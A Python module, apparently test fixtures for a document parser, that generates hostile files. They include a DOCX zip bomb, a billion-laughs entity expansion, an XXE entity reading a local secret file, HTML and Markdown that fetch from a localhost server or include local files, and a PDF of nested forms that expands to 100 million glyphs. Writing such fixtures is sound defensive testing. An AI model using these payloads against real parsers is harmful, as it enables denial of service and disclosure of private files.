"""Documents made to do harm, each as (file name, content)."""

import io
import zipfile

import pypdf
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject

PAGE = "http://127.0.0.1:{port}/"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VENDOR = "application/vnd.openxmlformats"
TYPES = f"""<?xml version="1.0"?><Types xmlns="{PACKAGE}/content-types">
<Default Extension="rels" ContentType="{VENDOR}-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml"
ContentType="{VENDOR}-officedocument.wordprocessingml.document.main+xml"/></Types>"""
RELATED = f"""<?xml version="1.0"?><Relationships xmlns="{PACKAGE}/relationships">
<Relationship Id="rId1" Type="{RELATION}/officeDocument" Target="word/document.xml"/></Relationships>"""


def archive(parts: dict[str, str | bytes]) -> bytes:
    """A ZIP archive of these parts, packed."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, part in parts.items():
            packed.writestr(name, part)
    return content.getvalue()


def docx(body: str, doctype: str = "", **more: str | bytes) -> bytes:
    """A Word document with this body; more: further parts, by name with / as __ and . as _dot_."""
    document = (
        f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{WORD}" xmlns:r="{RELATION}">'
        f"<w:body>{body}</w:body></w:document>"
    )
    parts = {"[Content_Types].xml": TYPES, "_rels/.rels": RELATED, "word/document.xml": document}
    return archive(
        parts | {name.replace("__", "/").replace("_dot_", "."): part for name, part in more.items()}
    )


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def bomb() -> bytes:
    """A Word document of a few kilobytes that unpacks to a gigabyte."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", TYPES)
        packed.writestr("_rels/.rels", RELATED)
        with packed.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(1024):
                part.write(b" " * 2**20)
    return content.getvalue()


def encrypted(pdf: bytes) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf))
    writer.encrypt("secret")
    content = io.BytesIO()
    writer.write(content)
    return content.getvalue()


def reaching_out(port: int, secret: str) -> dict[str, bytes]:
    """Documents that ask for an address on this machine and for a file, by file name."""
    page = PAGE.format(port=port)
    relations = f"""<?xml version="1.0"?><Relationships xmlns="{PACKAGE}/relationships">
<Relationship Id="rId9" Type="{RELATION}/attachedTemplate"
Target="{page}template.dotm" TargetMode="External"/>
<Relationship Id="rId8" Type="{RELATION}/image" Target="{page}image.png" TargetMode="External"/>
</Relationships>"""
    entity = f'<!DOCTYPE x [<!ENTITY net SYSTEM "{page}entity"><!ENTITY file SYSTEM "file://{secret}">]>'
    said = "Exports rose from 3 million in 2001 to 5 million in 2002, it is said."
    html = f"""<!doctype html><html><head><link rel="stylesheet" href="{page}style.css">
<script src="{page}code.js"></script><base href="{page}">
<style>@import url({page}import.css); p {{ background: url({page}back.png) }}</style></head>
<body><p>{said}</p>
<iframe src="file://{secret}"></iframe><img src="{page}image.png"><object data="{page}object"></object>
<svg><image href="{page}svg.png"/></svg></body></html>"""
    markdown = (
        f"{said}\n\n![picture]({page}image.png)\n\n!include {secret}\n\n"
        f"{{{{#include {secret}}}}}\n\n.. include:: {secret}\n"
    )
    return {
        "page.html": html.encode(),
        "text.md": markdown.encode(),
        "letter.docx": docx(paragraph(said), word___rels__document_dot_xml_dot_rels=relations),
        "entity.docx": docx(paragraph("Exports rose to &net; and &file; it is said."), entity),
    }


def laughs() -> bytes:
    """A Word document whose entities unfold to a thousand million words."""
    entities = '<!ENTITY a0 "ha">'
    for n in range(1, 10):
        entities += f'<!ENTITY a{n} "' + f"&a{n - 1};" * 10 + '">'
    return docx(paragraph("&a9;"), f"<!DOCTYPE x [{entities}]>")


def nested(tag: str, depth: int) -> bytes:
    return (f"<{tag}>" * depth + "Exports rose." + f"</{tag}>" * depth).encode()


def heavy_page(pdf: bytes, page: int) -> bytes:
    """The PDF, with 100 million letters on a page (from 1): forms that hold forms, in a few kilobytes."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf))
    heavy, content = writer.pages[page - 1], io.BytesIO()
    fonts = heavy["/Resources"]["/Font"]
    drawn = f"BT {next(iter(fonts))} 6 Tf 50 50 Td ".encode() + b"1 0 Td <0003> Tj " * 100_000 + b"ET"
    resources = DictionaryObject({NameObject("/Font"): fonts})
    for _ in range(2):
        form = StreamObject()
        form.set_data(drawn)
        form = form.flate_encode()
        form[NameObject("/Type")], form[NameObject("/Subtype")] = NameObject("/XObject"), NameObject("/Form")
        form[NameObject("/BBox")] = ArrayObject(map(NumberObject, (0, 0, 600, 600)))
        form[NameObject("/Resources")] = resources
        held = DictionaryObject({NameObject("/F"): writer._add_object(form)})
        resources, drawn = DictionaryObject({NameObject("/XObject"): held}), b"/F Do " * 1000
    drawing = StreamObject()
    drawing.set_data(b"/F Do")
    heavy[NameObject("/Resources")], heavy[NameObject("/Contents")] = resources, writer._add_object(drawing)
    writer.write(content)
    return content.getvalue()
